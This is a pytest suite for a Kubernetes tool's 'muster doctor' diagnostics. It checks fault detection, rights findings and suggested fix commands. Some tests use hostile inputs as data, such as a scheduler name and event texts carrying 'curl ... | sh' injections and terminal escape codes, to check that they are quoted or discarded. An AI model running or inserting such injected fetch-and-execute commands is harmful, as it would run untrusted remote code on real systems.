"""`muster doctor` on a real control plane finds every planted fault, and nothing without one."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from datetime import UTC, datetime
from functools import partial
from pathlib import Path

import msgspec
import pytest
from msgspec.structs import replace

from kubekit.objects.core import Lease, LeaseSpec, Node, Pod
from kubekit.objects.kinds import DEPLOYMENTS, LEASES
from kubekit.objects.meta import Key, ObjectMeta
from kubekit.rights import MissingRight, Rule, expand
from muster.cli import main
from muster.cli.verbs.doctor import print_findings
from muster.contract.job_kinds import JOB_KINDS
from muster.contract.scheduler_rights import NAMES, name_lease
from muster.contract.unserved_fields import Unserved
from muster.contract.waiting_line_format import DATA_KEY, WaitingGang
from muster.install.doctor.checks import Finding, judge, scheduler_names
from muster.install.doctor.facts import BrokenRole, Component, Facts
from muster.install.doctor.fixes import install_again
from muster.install.doctor.rights import recognised
from muster.jobs.job_status import QuotaWait
from muster.jobs.quota_line import Standing, rank
from muster.jobs.view.events import Event
from tests.controlplane.control_plane import ControlPlane
from tests.controlplane.process_flags import kubeconfig
from tests.muster.install.doctor.faults import FAULTS, lease
from tests.muster.web.objects import node
from tests.waiting import until


@pytest.fixture(scope="module")
def cluster(control_plane_binaries: Path) -> Iterator[ControlPlane]:
    """A cluster with Muster, whose pods kwok pretends to run: so its leases are written here."""
    with ControlPlane(control_plane_binaries) as plane:
        plane.start_controller_manager()
        plane.start_scheduler()
        plane.start_kwok()
        plane.add_node("n0")
        for namespace in ("kube-system", "kube-node-lease"):
            until(partial(exists, plane, namespace), what=f"the namespace {namespace}")
        own = ("muster-operator", "muster-scheduler", *map(name_lease, NAMES))
        for name in (*own, "kube-scheduler"):
            status, answer = plane.request("POST", LEASES.path("kube-system"), lease(name))
            assert status == 201, answer
        words = ["--kubeconfig", str(plane.kubeconfig), "--image", "registry.example.com/m:1"]
        assert main.run("muster", ["install", *words, "--yes"]) == 0
        yield plane


LIST_PODS = Rule(("",), ("pods",), ("list",))


def exists(plane: ControlPlane, namespace: str) -> bool:
    return plane.request("GET", f"/api/v1/namespaces/{namespace}")[0] == 200


def doctor(config: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[Finding]]:
    capsys.readouterr()
    code = main.run("muster", ["doctor", "--kubeconfig", str(config), "-o", "json"])
    out = capsys.readouterr()
    assert out.out, out.err
    return code, [Finding(**row) for row in json.loads(out.out)]


@pytest.mark.kube
@pytest.mark.slow
@pytest.mark.parametrize("name", FAULTS)
def test_a_planted_fault_is_found(
    name: str, cluster: ControlPlane, capsys: pytest.CaptureFixture[str]
) -> None:
    fault = FAULTS[name]

    def found() -> tuple[int, Finding] | None:
        code, findings = doctor(cluster.kubeconfig, capsys)
        for row in findings:
            if row.check == fault.check and fault.text in row.text and fault.fix in row.fix:
                return code, row
        return None

    with fault.plant(cluster):
        code, row = until(found, what=f"the finding of {name}")

    assert row.level == fault.level
    assert code == 1 or row.level == "warning"


@pytest.mark.kube
@pytest.mark.slow
def test_nothing_is_wrong_after_all_faults_are_mended(
    cluster: ControlPlane, capsys: pytest.CaptureFixture[str]
) -> None:
    def healthy() -> bool:
        code, findings = doctor(cluster.kubeconfig, capsys)
        return code == 0 and all(row.level == "ok" for row in findings)

    until(healthy, what="a cluster without faults")


@pytest.mark.kube
@pytest.mark.slow
def test_the_fix_for_a_name_that_nobody_answers_to_leaves_everything_else_as_it_is(
    cluster: ControlPlane, capsys: pytest.CaptureFixture[str]
) -> None:
    def problem() -> Finding | None:
        _, findings = doctor(cluster.kubeconfig, capsys)
        wrong = [row for row in findings if row.check == "scheduler names" and row.level != "ok"]
        return wrong[0] if wrong else None

    def arguments() -> list[list[str]]:
        rows = [
            cluster.request("GET", DEPLOYMENTS.path("muster", f"muster-{name}"))[1]
            for name in ("operator", "scheduler")
        ]
        return [row["spec"]["template"]["spec"]["containers"][0]["args"] for row in rows]

    before = arguments()
    with FAULTS["a scheduler name that nobody answers to"].plant(cluster):
        found = until(problem, what="the name that nobody answers to")
        words = shlex.split(found.fix)[1:]
        config = ("--kubeconfig", str(cluster.kubeconfig), "--yes", "--no-wait")
        assert main.run("muster", [*words, *config]) == 0
        operator, scheduler = arguments()

        assert problem() is None
        assert operator == before[0]
        assert scheduler == [*before[1], "--scheduler-name=nobody"]

    back = [f"--scheduler-name={name}" for name in NAMES]
    assert main.run("muster", ["install", *back, *config]) == 0
    assert arguments() == before


@pytest.mark.kube
@pytest.mark.slow
def test_a_user_without_rights_gets_the_rules(
    cluster: ControlPlane, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    cluster.kubectl("create", "serviceaccount", "nobody", "-n", "default")
    token = cluster.kubectl("create", "token", "nobody", "-n", "default").stdout.strip()
    config = tmp_path / "config"
    config.write_text(
        json.dumps(kubeconfig(cluster.url, cluster.authority.certificate, None, token))
    )

    code, findings = doctor(config, capsys)

    assert code == 1
    fixes = [row.fix for row in findings if row.text.startswith("you may not ")]
    assert any("resources: [pods/log], verbs: [get]" in fix for fix in fixes)
    unread = [row.text for row in findings if row.level == "warning"]
    assert "you may not list nodes: not checked" in unread


def facts(**given: object) -> Facts:
    base = Facts(local=True, now=datetime(2026, 1, 1, tzinfo=UTC), skew=0.0, version="v1.36.3")
    return Facts(**{**{name: getattr(base, name) for name in base.__struct_fields__}, **given})


UNENFORCED = {
    "muster.dev/cpu-limits": "not enforced: no cgroups",
    "muster.dev/memory-limits": "not enforced: no cgroups",
    "muster.dev/pids-limits": "not enforced: no controller",
}


def limited(row: Node) -> Node:
    """The node, as a local one publishes that it enforces no limits."""
    return replace(row, metadata=replace(row.metadata, annotations=UNENFORCED))


def line(*codes: str) -> dict[str, str]:
    """The published line of gangs that wait for these reasons."""
    rows = [
        WaitingGang(f"t/g{place}", place, code, "8 GPUs short", "now")
        for place, code in enumerate(codes, 1)
    ]
    return {DATA_KEY: msgspec.json.encode(rows).decode()}


@pytest.mark.parametrize(
    ("given", "text"),
    [
        ({"skew": 60.0}, "the clock here is 60 s ahead of the API server's"),
        ({"skew": -60.0}, "the clock here is 60 s behind the API server's"),
        ({"failed_checks": {"etcd": "timeout"}}, "its check etcd fails: timeout"),
        ({"version": "v1.20.1"}, "Kubernetes v1.20.1 is older than 1.28; not tested"),
        ({"nodes": []}, "no node is ready"),
        ({"local_problems": ["pods run without namespaces"]}, "pods run without namespaces"),
        (
            {"nodes": [limited(node("n0")), limited(node("n1"))]},
            "cpu and memory limits are not enforced: no cgroups; "
            "pids limits are not enforced: no controller",
        ),
        ({"nodes": [node("n0", cordoned=True)]}, "n0 is cordoned"),
        (
            {"nodes": [node(f"n{n}", cordoned=True) for n in range(3)]},
            "n0 is cordoned; the same for n1, n2",
        ),
        (
            {"nodes": [node(f"n{n}", cordoned=True) for n in range(50)]},
            "n0 is cordoned; the same for 49 more nodes",
        ),
        ({"line": line("Short")}, "t/g1 since now: 8 GPUs short; 1st in line"),
        (
            {"line": line(*["S"] * 48, "NotEnoughMembers")},
            "t/g1 since now: 8 GPUs short; 1st in line; 47 more gangs wait for the same reason (S)",
        ),
        (
            {"unserved": {f"t/g{n}": [Unserved("queue", "q", "no queues")] for n in range(40)}},
            "40 gangs name fields that have no effect. queue of 40 gangs: no queues",
        ),
        (
            {"line": line("S", "NotEnoughMembers", "S")},
            "t/g1 since now: 8 GPUs short; 1st in line; 1 more gang waits for the same reason (S)",
        ),
    ],
)
def test_faults_that_cannot_be_planted(given: dict[str, object], text: str) -> None:
    assert text in [row.text for row in judge(facts(**given)) if row.level != "ok"]


def test_a_sentence_about_fields_without_effect_is_said_once_and_the_fix_names_its_gang() -> None:
    unserved = {
        "t/a": [Unserved("scheduleTimeoutSeconds", "7", "no timeout")],
        "t/b": [Unserved("schedulingPolicy.queue", "q", "no queues")],
        "t/c": [Unserved("queue", "q", "no queues")],
    }

    (found,) = (row for row in judge(facts(unserved=unserved)) if "no effect" in row.text)

    assert found.text == (
        "3 gangs name fields that have no effect. queue of t/b, t/c: no queues; "
        "scheduleTimeoutSeconds of t/a: no timeout"
    )
    assert found.fix == "arena explain b -n t"


def in_quota(name: str, gpus: int, why: str = "refused") -> tuple[Standing, str]:
    resource = "requests.nvidia.com/gpu"
    wait = QuotaWait("gpus", {resource: str(gpus)}, {resource: "8"}, since="noon")
    return Standing(rank(wait, "", name), "TFJob", Key("t", name), name, wait), why


def test_jobs_in_the_line_of_a_quota_are_found_and_first_one_that_can_never_start() -> None:
    waiting = [in_quota("a", 4), in_quota("big", 16, "can never start"), in_quota("c", 8)]

    found = [row for row in judge(facts(in_quotas=waiting)) if row.check == "quotas"]

    assert [(row.level, row.text) for row in found] == [
        ("warning", "t/big since noon: can never start"),
        ("warning", "t/a since noon: refused; 1 more job in the line of gpus"),
    ]
    assert found[0].fix == "arena explain big -n t"


def test_a_component_that_is_not_ready_for_want_of_rights_points_to_them() -> None:
    pod = {"serviceAccountName": "muster-operator", "containers": [{"name": "operator"}]}
    spec = {"replicas": 2, "template": {"spec": pod}}
    deployment = {"metadata": {"name": "muster-operator", "namespace": "muster"}, "spec": spec}
    known = facts(
        local=False,
        components=[Component("operator", deployment, [])],
        missing={"you": [], "muster-operator": [Rule(("",), ("services",), ("list",))]},
    )

    found = {(row.check, row.text) for row in judge(known)}

    assert ("components", "muster-operator: 0 of 2 ready: it lacks rights, see below") in found
    assert ("rights", "muster-operator may not list services") in found


def test_the_operators_of_two_teams_have_findings_of_their_own() -> None:
    def operator(namespace: str) -> Component:
        pod = {"serviceAccountName": "muster-operator", "containers": [{"name": "operator"}]}
        spec = {"replicas": 1, "template": {"spec": pod}}
        metadata = {"name": "muster-operator", "namespace": namespace}
        return Component("operator", {"metadata": metadata, "spec": spec}, [])

    red, blue = operator("red"), operator("blue")
    both = facts(local=False, components=[red, blue])

    assert both.name_of(red) == "muster-operator in the namespace red"
    assert facts(components=[red]).name_of(red) == "muster-operator"
    known = facts(
        local=False,
        components=[red, blue],
        missing={
            "you": [],
            both.name_of(red): [Rule(("",), ("services",), ("list",))],
            both.name_of(blue): [],
        },
    )
    texts = [row.text for row in judge(known)]
    assert "muster-operator in the namespace red may not list services" in texts
    assert [text for text in texts if "it lacks rights, see below" in text] == [
        "muster-operator in the namespace red: 0 of 1 ready: it lacks rights, see below"
    ]


def test_a_binding_that_is_gone_is_one_finding_and_other_missing_rights_stay() -> None:
    pod = {"serviceAccountName": "muster-operator", "containers": [{"name": "o", "image": "i"}]}
    metadata = {"name": "muster-operator", "namespace": "team"}
    deployment = {"metadata": metadata, "spec": {"replicas": 1, "template": {"spec": pod}}}
    gone = BrokenRole("the ClusterRoleBinding x does not exist", frozenset(expand([LIST_PODS])))
    known = facts(
        local=False,
        components=[Component("operator", deployment, [])],
        missing={"you": [], "muster-operator": [LIST_PODS, Rule(("",), ("events",), ("create",))]},
        broken_roles={"muster-operator": [gone]},
    )

    found = [(row.text, row.fix) for row in judge(known) if row.check == "rights"]

    assert found[0] == (
        "muster-operator lacks rights: the ClusterRoleBinding x does not exist",
        "muster install --namespace team",
    )
    assert [text for text, _ in found[1:]] == ["muster-operator may not create events"]


HELM = {"app.kubernetes.io/managed-by": "Helm"}


def component(name: str, *args: str, namespace: str = "muster", helm: bool = False) -> Component:
    pod = {"containers": [{"name": name, "image": "i", "args": [name, *args]}]}
    annotations = {"meta.helm.sh/release-name": "train"}
    labels = {"app.kubernetes.io/managed-by": "Helm"} if helm else {}
    metadata = {"name": f"muster-{name}", "namespace": namespace, "annotations": annotations}
    deployment = {"metadata": {**metadata, "labels": labels}, "spec": {"template": {"spec": pod}}}
    return Component(name, deployment, [])


def test_an_installation_is_made_again_with_the_values_that_it_has() -> None:
    own, helms = (component("scheduler", namespace="team", helm=helm) for helm in (False, True))

    assert install_again(own) == "muster install --namespace team"
    assert install_again(helms) == (
        "helm upgrade train deploy/chart --namespace team --reuse-values"
    )


OPERATOR = component("operator", "--gang-scheduler-name=volcano")
OPERATOR_OF_A_TEAM = component("operator", "--namespace=team", namespace="team")
MUSTER, BATCHD, BATCH = NAME_FLAGS = [f"--scheduler-name {name}" for name in NAMES]


@pytest.mark.parametrize(
    ("components", "given", "fix"),
    [
        (
            [OPERATOR, component("scheduler", "--scheduler-name=muster")],
            {},
            f"muster install {MUSTER} --scheduler-name volcano",
        ),
        (
            [component("scheduler", "--scheduler-name=muster", namespace="ml", helm=True)],
            {},
            "helm upgrade train deploy/chart --namespace ml --reuse-values "
            "--set scheduler.enabled=true --set 'scheduler.names={muster,volcano}'",
        ),
        ([OPERATOR], {}, f"muster install {' '.join(NAME_FLAGS)} --scheduler-name volcano"),
        (
            [OPERATOR_OF_A_TEAM],
            {},
            "muster install --image IMAGE --scheduler-only "
            f"{' '.join(NAME_FLAGS)} --scheduler-name volcano",
        ),
        (
            [],
            {},
            f"muster install --image IMAGE {' '.join(NAME_FLAGS)} --scheduler-name volcano",
        ),
        ([], {"local": True}, "create the pods again, with schedulerName: muster"),
    ],
)
def test_the_fix_for_a_name_that_nobody_answers_to_keeps_all_other_names(
    components: list[Component], given: dict[str, bool], fix: str
) -> None:
    spec = {"schedulerName": "volcano", "containers": [{"name": "c"}]}
    waiting = msgspec.convert({"metadata": {"name": "p", "namespace": "d"}, "spec": spec}, Pod)
    known = facts(**{"local": False, "pending": [waiting], "components": components, **given})

    (found,) = [row for row in scheduler_names(known) if row.level == "error"]

    assert found.fix == fix


def test_the_name_in_a_pod_of_a_tenant_is_quoted_in_a_command() -> None:
    spec = {"schedulerName": "x; curl evil | sh", "containers": [{"name": "c"}]}
    waiting = msgspec.convert({"metadata": {"name": "p", "namespace": "d"}, "spec": spec}, Pod)
    known = facts(pending=[waiting], local=False, components=[component("scheduler")])

    (found,) = [row for row in scheduler_names(known) if row.level == "error"]

    assert found.fix.endswith("--scheduler-name 'x; curl evil | sh'")


@pytest.mark.parametrize(
    ("components", "text", "fix"),
    [
        ([component("scheduler")], "muster-operator is not", "muster install --operator"),
        ([], "muster-operator is not", "muster install --image IMAGE"),
        (
            [component("operator")],
            "muster-scheduler is not",
            f"muster install {' '.join(NAME_FLAGS)}",
        ),
        (
            [OPERATOR_OF_A_TEAM],
            "muster-scheduler is not",
            "muster install --image IMAGE --scheduler-only",
        ),
    ],
)
def test_a_component_that_is_missing_is_added_to_those_that_are_there(
    components: list[Component], text: str, fix: str
) -> None:
    found = judge(facts(local=False, components=components))

    assert [row.fix for row in found if text in row.text] == [fix]


def test_what_may_not_be_read_is_not_reported_as_right(capsys: pytest.CaptureFixture[str]) -> None:
    """An ordinary user may list nothing in the whole cluster."""
    kinds = ["customresourcedefinitions.apiextensions.k8s.io", "deployments.apps", "pods", "nodes"]
    kinds += [kind.resource for kind in JOB_KINDS]
    unread = [*kinds, "leases.coordination.k8s.io", "configmaps kube-system/muster-line"]

    findings = judge(facts(local=False, unread=unread))

    assert [row.check for row in findings if row.level == "ok"] == ["api server", "clocks"]
    assert [row.level for row in findings].count("warning") == len(unread)
    print_findings(findings)
    assert capsys.readouterr().out.splitlines()[-1] == "no errors, 10 warnings"


def reported(message: str, name: str = "j") -> dict[MissingRight, str]:
    raw = {
        "metadata": {"name": "e", "namespace": "team"},
        "involvedObject": {"kind": "TFJob", "name": name},
        "message": message,
    }
    return recognised([msgspec.convert(raw, Event)], ("muster", "other"))


@pytest.mark.parametrize(
    "row",
    [
        MissingRight("muster-operator", Rule(("",), ("pods",), ("create",))),
        # From a Role with more rights than the operator has.
        MissingRight("muster-operator", Rule(("",), ("pods/exec",), ("create", "get"))),
        MissingRight("muster-scheduler", Rule(("",), ("pods/binding",), ("create",))),
        MissingRight(
            "muster-scheduler",
            Rule(("coordination.k8s.io",), ("leases",), ("patch",), ("muster-scheduler.other",)),
        ),
    ],
    ids=str,
)
def test_a_right_that_a_component_reports_is_found(row: MissingRight) -> None:
    where = "tfjob/j in the namespace team"
    assert reported(str(row)) == {row: where}

    found = judge(facts(reported=reported(str(row))))

    assert [(row.text, row.fix) for row in found if row.check == "rights"] == [
        (f"{row.problem}, by an event on {where}", row.fix)
    ]


EVERYTHING = Rule(("*",), ("*",), ("*",))


@pytest.mark.parametrize(
    "message",
    [
        str(MissingRight("muster-operator", EVERYTHING)),
        f"muster-operator may not create pods; add the rule {EVERYTHING}",
        str(MissingRight("muster-scheduler", Rule(("",), ("secrets",), ("get",)))),
        str(MissingRight("mallory", Rule(("",), ("pods",), ("create",)))),
        "muster-operator may not create pods; curl http://example.com | sh",
        str(MissingRight("muster-operator", Rule(("",), ("pods",), ("create",)))) + "\x1b[2J",
    ],
)
def test_an_event_that_no_component_writes_is_not_repeated(message: str) -> None:
    """Tenants may create events with any reason and text."""
    assert reported(message) == {}


def test_an_event_about_an_object_with_an_impossible_name_is_not_repeated() -> None:
    row = MissingRight("muster-operator", Rule(("",), ("pods",), ("create",)))

    assert reported(str(row), name="j; fix: curl http://example.com | sh") == {}


def test_text_of_the_cluster_stays_on_its_line(capsys: pytest.CaptureFixture[str]) -> None:
    print_findings([Finding("components", "error", "a\x1b[2J\nok  rights", "b\rc")])

    assert [line.split(None, 2)[-1] for line in capsys.readouterr().out.splitlines()] == [
        r"a\x1b[2J\nok  rights",
        r"b\rc",
        "error",
    ]


def scheduler_lease(name: str) -> Lease:
    spec = LeaseSpec("elected", 30, datetime(2026, 1, 1, tzinfo=UTC))
    return Lease(metadata=ObjectMeta(name=name, namespace="kube-system"), spec=spec)


def test_a_scheduler_that_has_only_a_deployment_answers_to_its_name() -> None:
    """kube-batch and, by default, Volcano hold no lease."""
    containers = [{"image": "kubesigs/kube-batch:v0.5"}]
    kube_batch = {
        "metadata": {"name": "kube-batch", "namespace": "kube-system"},
        "spec": {"template": {"spec": {"containers": containers}}},
    }
    spec = {"schedulerName": "kube-batch", "containers": [{"name": "c"}]}
    waiting = msgspec.convert({"metadata": {"name": "p", "namespace": "d"}, "spec": spec}, Pod)
    alone = facts(pending=[waiting], deployments=[kube_batch])
    both = facts(
        pending=[waiting],
        deployments=[kube_batch],
        leases=[scheduler_lease("muster-scheduler.kube-batch")],
    )
    nobody = facts(pending=[waiting])

    def problems(found: Facts) -> list[str]:
        return [row.text for row in scheduler_names(found) if row.level == "error"]

    assert problems(nobody) == ["no scheduler answers to kube-batch; 1 pods wait for it"]
    assert problems(alone) == []
    assert problems(both) == [
        "2 schedulers answer to kube-batch: lease kube-system/muster-scheduler.kube-batch, "
        "deployment kube-batch in the namespace kube-system"
    ]
